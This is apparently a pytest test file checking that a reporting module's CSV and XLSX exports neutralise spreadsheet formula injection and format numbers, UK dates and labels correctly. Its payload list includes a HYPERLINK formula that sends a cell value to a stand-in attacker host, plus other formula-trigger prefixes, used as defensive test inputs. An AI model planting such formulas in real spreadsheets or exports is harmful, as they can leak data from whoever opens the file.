"""CSV and XLSX exports: formula payloads arrive as text, numbers as numbers (SECURITY V4)."""

import csv
import io
from datetime import date, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from reports.exports import to_csv, to_xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2", "@SUM(1)", "\tX", "\rX"]


def payload_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": PAYLOADS + ["plain, with a comma", 'says "hello"', "Total"],
            "count": [1, -2, 3, 0, 5, 6, 7, 8, 9],
            "percent": [66.7, -1.5, 0.0, 33.3, 50.0, 12.5, 1.0, 2.0, 3.0],
        }
    )


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(body: bytes, sheet: str | None = None) -> list[list]:
    workbook = load_workbook(io.BytesIO(body))
    worksheet = workbook[sheet] if sheet else workbook.active
    return [[cell.value for cell in row] for row in worksheet.iter_rows()]


def test_csv_starts_with_a_byte_order_mark_and_uses_crlf_lines():
    body = to_csv(payload_frame())

    assert body.startswith(b"\xef\xbb\xbftext,count,percent\r\n")
    assert body.endswith(b"\r\n")


def test_csv_formula_payloads_are_read_back_with_an_apostrophe_in_front():
    rows = read_csv(to_csv(payload_frame()))

    assert [row[0] for row in rows[1:7]] == ["'" + payload for payload in PAYLOADS]


def test_csv_quotes_commas_and_quotes_as_rfc_4180_says():
    body = to_csv(payload_frame()).decode("utf-8-sig")

    assert '\r\n"plain, with a comma",' in body
    assert '\r\n"says ""hello""",' in body
    assert read_csv(body.encode())[7:9] == [["plain, with a comma", "7", "1.0"], ['says "hello"', "8", "2.0"]]


def test_csv_numbers_are_written_as_numbers_even_when_negative():
    rows = read_csv(to_csv(payload_frame()))

    assert [row[1] for row in rows[1:4]] == ["1", "-2", "3"]
    assert [row[2] for row in rows[1:3]] == ["66.7", "-1.5"]


def test_csv_headings_come_from_the_labels_and_are_neutralised_too():
    rows = read_csv(to_csv(payload_frame(), labels={"text": "What was said", "count": "=1+1"}))

    assert rows[0] == ["What was said", "'=1+1", "percent"]


def test_csv_dates_are_uk_style_and_missing_values_empty():
    frame = pd.DataFrame(
        {"day": pd.Series([date(2026, 10, 7), "Total"], dtype=object), "id": pd.Series([4, pd.NA], dtype="Int64")}
    )

    assert read_csv(to_csv(frame)) == [["day", "id"], ["07/10/2026", "4"], ["Total", ""]]


def test_xlsx_formula_payloads_are_text_with_an_apostrophe_in_front():
    rows = read_xlsx(to_xlsx(payload_frame(), "Return"))

    texts = [row[0] for row in rows[1:7]]
    # Some openpyxl versions read a carriage return back as a line feed; the apostrophe is what matters.
    assert [text.replace("\r", "\n") for text in texts] == ["'" + payload.replace("\r", "\n") for payload in PAYLOADS]


def test_xlsx_has_no_formula_cells():
    workbook = load_workbook(io.BytesIO(to_xlsx(payload_frame(), "Return")))

    assert [cell.coordinate for row in workbook.active.iter_rows() for cell in row if cell.data_type == "f"] == []


def test_xlsx_numbers_stay_numbers():
    rows = read_xlsx(to_xlsx(payload_frame(), "Return"))

    assert [row[1] for row in rows[1:]] == [1, -2, 3, 0, 5, 6, 7, 8, 9]
    assert all(type(row[1]) is int for row in rows[1:])
    assert rows[1][2] == 66.7 and rows[2][2] == -1.5


def test_xlsx_uses_the_sheet_name_labels_and_uk_dates():
    frame = pd.DataFrame(
        {"day": pd.Series([date(2026, 10, 7), "Total"], dtype=object), "id": pd.Series([4, pd.NA], dtype="Int64")}
    )
    body = to_xlsx(frame, "MARAC data return 2026-Q4", labels={"day": "Meeting date", "id": "Meeting number"})
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook["MARAC data return 2026-Q4"]

    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Meeting date", "Meeting number"],
        [datetime(2026, 10, 7), 4],
        ["Total", None],
    ]
    assert sheet["A2"].number_format == "DD/MM/YYYY"


@pytest.mark.parametrize("text, expected", [("\x00X", "'X"), ("\x01=cmd", "'=cmd"), ("\x08+1", "'+1")])
def test_xlsx_drops_characters_it_cannot_hold_without_uncovering_a_formula(text, expected):
    rows = read_xlsx(to_xlsx(pd.DataFrame({"text": [text]}), "Return"))

    assert rows[1] == [expected]


def test_csv_neutralises_a_leading_nul():
    rows = read_csv(to_csv(pd.DataFrame({"text": ["\x00X"]})))

    assert rows[1] == ["'\x00X"]
